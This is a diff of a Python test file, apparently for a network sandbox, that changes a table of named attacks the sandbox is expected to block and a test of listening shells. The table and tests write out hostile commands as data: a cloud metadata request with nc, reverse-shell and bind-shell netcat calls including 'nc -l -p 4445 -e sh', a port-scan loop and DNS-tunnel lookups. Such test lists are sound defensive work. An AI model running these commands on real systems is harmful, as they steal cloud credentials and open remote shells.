@@ -19,13 +19,13 @@ RULES = {
 NC = "nc -w 1 {} {} < /dev/null"
 # name, what is run, what the servers see of it without rules
 ATTACKS = (
-    ("metadata service", "wget -q -T 1 -O - http://169.254.169.254/latest/", "tcp 169.254.169.254:80"),
+    ("metadata service", "echo GET /latest/ | nc -w 1 169.254.169.254 80", "tcp 169.254.169.254:80"),
     ("metadata service, mapped", NC.format("::ffff:169.254.169.254", 80), "tcp 169.254.169.254:80"),
     ("reverse shell", NC.format("10.8.0.1", 4444), "tcp 10.8.0.1:4444"),
     ("reverse shell, version 6", NC.format("fd09::1", 4444), "tcp fd09::1:4444"),
     ("port scan", "for p in 21 22 23; do nc -w 1 10.9.0.1 $p < /dev/null; done", "tcp 10.9.0.1:22"),
     ("DNS tunnel", "nslookup secret.example 8.8.8.8", "udp 8.8.8.8:53"),
-    ("datagrams", "echo secret | nc -u -w 1 8.8.8.8 53", "udp 8.8.8.8:53"),
+    ("DNS tunnel inside", "nslookup secret.example 10.8.0.1", "udp 10.8.0.1:53"),
 )
 ALLOWED = (
     ("the database", NC.format("10.9.0.1", 5432), "tcp 10.9.0.1:5432"),
@@ -94,7 +94,7 @@ class Network(AttackCase):
         result, _ = self.run_in_world("nc -l -p 4445 -e sh")
         self.assertIn("not permitted", result.stdout)
         # The shell itself, so that it is gone at once where it may listen.
-        result, _ = self.run_in_world("timeout 1 nc -l -p 8080")
+        result, _ = self.run_in_world("timeout 1 nc -l -p 8080; true")
         self.assertNotIn("not permitted", result.stdout)
 
     def test_sniffing_and_ping_tunnels_find_no_socket(self):
